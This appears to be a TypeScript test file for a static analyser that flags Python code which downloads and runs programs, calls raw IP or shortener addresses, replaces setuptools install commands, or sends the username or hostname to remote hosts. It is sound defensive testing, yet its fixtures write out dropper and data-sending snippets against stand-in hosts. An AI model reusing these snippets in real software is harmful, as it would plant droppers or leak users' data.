import assert from 'node:assert/strict';
import { test } from 'node:test';
import { assertLinear } from '../../../linear-time.ts';
import { analysed, hazardsOf } from './hazards-of.ts';

const ids = new Set([
  ...['program-dropped', 'nameless-address', 'install-command-replaced'],
  ...['local-data-sent', 'local-data-sent-openly'],
]);

function told(source: string): readonly string[] {
  const found = hazardsOf(source, 'repository').map((each) => each.slice(each.indexOf(' ') + 1));
  return [...new Set(found)].filter((id) => ids.has(id));
}

/** A few lines, and what is told of them; without ids: honest code that looks like it. */
type Case = readonly [string, ...string[]];

const head = 'import os, stat, subprocess, requests, urllib.request\n';
const fetched = `${head}r = requests.get(URL, timeout=1)\n`;

const dropped: readonly Case[] = [
  [`${fetched}open("a.exe", "wb").write(r.content)`, 'program-dropped'],
  [`${fetched}with open(folder + "\\\\b.dll", "wb") as f:\n    f.write(r.content)`, 'program-dropped'],
  [`${fetched}f = open(path, "wb")\nf.write(r.content)\nf.close()\nos.chmod(path, 0o755)`, 'program-dropped'],
  [
    `${fetched}open(path, "wb").write(r.content)\nos.chmod(path, os.stat(path).st_mode | stat.S_IEXEC)`,
    'program-dropped',
  ],
  [`${fetched}open(path, "wb").write(r.content)\nos.system(f"chmod +x {path}")`, 'program-dropped'],
  [`${fetched}open(path, "wb").write(r.content)\nos.system("sh " + path)`, 'program-dropped'],
  [`${fetched}open(path, "wb").write(r.content)\nsubprocess.Popen([path, "-q"])`, 'program-dropped'],
  [`${fetched}open(path, "wb").write(r.content)\nsubprocess.run(["bash", path])`, 'program-dropped'],
  [`${fetched}open("a.dat", "wb").write(r.content)\nos.rename("a.dat", "a.exe")`, 'program-dropped'],
  [`${head}urllib.request.urlretrieve("https://x.example/a.exe", "a.dat")`, 'program-dropped'],
  [
    `${head}def fetch(url):\n    return urllib.request.urlopen(url).read()\ndef f():\n    data = fetch("https://x.example/a")\n    with open(path, "wb") as out:\n        out.write(data)\n    os.chmod(path, 0o700)`,
    'program-dropped',
  ],
  // A converter reads the file, nobody runs it.
  [`${fetched}open(path, "wb").write(r.content)\nsubprocess.run(["ffmpeg", "-i", path, "o.wav"])`],
  [`${fetched}open(path, "wb").write(r.content)\nos.chmod(path, 0o644)\nos.rename(path, "b.bin")`],
  [`${fetched}open(path, "wb").write(r.content)\nos.system(f"tar xzf {path}")`],
  [`${head}open(path, "wb").write(b"#!/bin/sh")\nos.chmod(path, 0o755)`],
  [`${head}urllib.request.urlretrieve("https://x.example/a.safetensors", "a.safetensors")`],
  [`${fetched}def a():\n    open(path, "wb").write(r.content)\ndef b():\n    os.chmod(path, 0o755)`],
];

// What is private or this machine is by RFC 6890, RFC 4193 and RFC 4291.
const nameless: readonly Case[] = [
  ['unknown.Request("https://203.0.114.7/a")', 'nameless-address'],
  ['send(url=f"http://8.9.10.11:80/{x}")', 'nameless-address'],
  ['lib.get("https://user@[2001:470::1]:42/")', 'nameless-address'],
  ['X = "https://bit.ly/abc"', 'nameless-address'],
  ['X = "https://a-b.c.workers.dev/t"', 'nameless-address'],
  ['f.get("http://a.pw/x")', 'nameless-address'],
  ['lib.post("http://1.1.1.1", data=x)', 'nameless-address'],
  ['lib.get("http://1.1.1.1/" + x)', 'nameless-address'],
  ['LINK = "https://bit.ly/abc"\nlib.get(LINK)', 'nameless-address'],
  ['U = "http://a.pw/x"\nasked(url=U + "/y")', 'nameless-address'],
  ['DOC = "https://www.a.tk/about.html"\nprint("see", "https://core.a.tk/")'],
  ['from setuptools import setup\nsetup(name="x", url="https://www.a.tk/")'],
  ['lib.get("http://127.0.0.1/")\nlib.get("http://10.1.2.3/")\nlib.get("http://172.20.0.1/")'],
  [
    'lib.get("http://192.168.1.1/")\nlib.get("http://[::1]:80/")\nlib.get("http://[fe80::1]/")\nlib.get("http://[fd00::1]/")',
  ],
  [
    'DNS = ["https://1.1.1.1", "https://8.8.8.8/x"]\nlib.get(DNS[0])\nlib.get("https://8.8.8.8/")\nlib.get("version 1.2.3.4")\nlib.get("https://1.2.3.4.example/")',
  ],
  [
    'NOTE = "see https://bit.ly/abc for more"\nX = "https://workers.dev.example/"\nY = "https://pwn.example/"',
  ],
];

const installs: readonly Case[] = [
  ['from setuptools import setup\nsetup(name="a", cmdclass={"install": Mine})', 'install-command-replaced'],
  ['import setuptools\nsetuptools.setup(cmdclass={"develop": Mine})', 'install-command-replaced'],
  ['from setuptools import setup\nsetup(name="a", cmdclass={"build_ext": Mine, "test": T})'],
  ['other(cmdclass={"install": Mine})'],
];

const sent: readonly Case[] = [
  ['import getpass\npost(url="http://x.example/", data=getpass.getuser())', 'local-data-sent-openly'],
  [
    'import platform, json\nx.Request(url="https://x.example/", data=json.dumps({"h": platform.node()}))',
    'local-data-sent',
  ],
  [
    'import getpass\npost(url="http://localhost/", data=getpass.getuser())\npost(url="http://x.example/", data="a")',
  ],
  ['import getpass\nmake(url="https://x.example/", user=getpass.getuser())'],
];

for (const [what, cases] of Object.entries({ dropped, nameless, installs, sent }))
  test(`what attacks fetch and send: ${what}`, () => {
    for (const [source, ...expected] of cases) assert.deepEqual(told(source), expected, source);
  });

/** Callables that effects tell, with or without their imports. */
const watched: readonly Case[] = [
  ['import mss\nwith mss.mss() as s:\n    s.grab(m)', 'mss.mss', 'mss.mss.grab'],
  ['import d3dshot\nd = d3dshot.create()\nd.screenshot()', 'd3dshot.create', 'd3dshot.D3DShot.screenshot'],
  [
    'import pandas as pd\npd.read_clipboard().to_clipboard()',
    'pandas.read_clipboard',
    'pandas.DataFrame.to_clipboard',
  ],
  ['pyperclip.paste()', 'pyperclip.paste'],
  ['windll.kernel32.CreateRemoteThread(h)', 'ctypes.windll.kernel32.CreateRemoteThread'],
  ['with Popen(["a"]) as p: pass', 'subprocess.Popen'],
  ['def Popen(x): return x\nPopen(["a"])'],
];

test('what watches, or is named without its import', () => {
  for (const [source, ...expected] of watched) {
    const seen = analysed(source).effects.map(({ callable }) => callable);
    for (const name of expected) assert.ok(seen.includes(name), `${source}: ${seen.join(' ')}`);
    if (expected.length === 0) assert.deepEqual(seen, [], source);
  }
});

test('files that are written and programs that are started, very many, are looked at in linear time', async () => {
  const program = (times: number): string => {
    const each = (i: number): string =>
      `def f${i}():\n    f = open(p${i}, "wb")\n    f.write(r)\n    os.chmod(q${i}, 0o755)\n`;
    return `${fetched}r = r.content\n${Array.from({ length: times }, (_, i) => each(i)).join('')}`;
  };
  await assertLinear('files and programs', 200, program, hazardsOf);
});
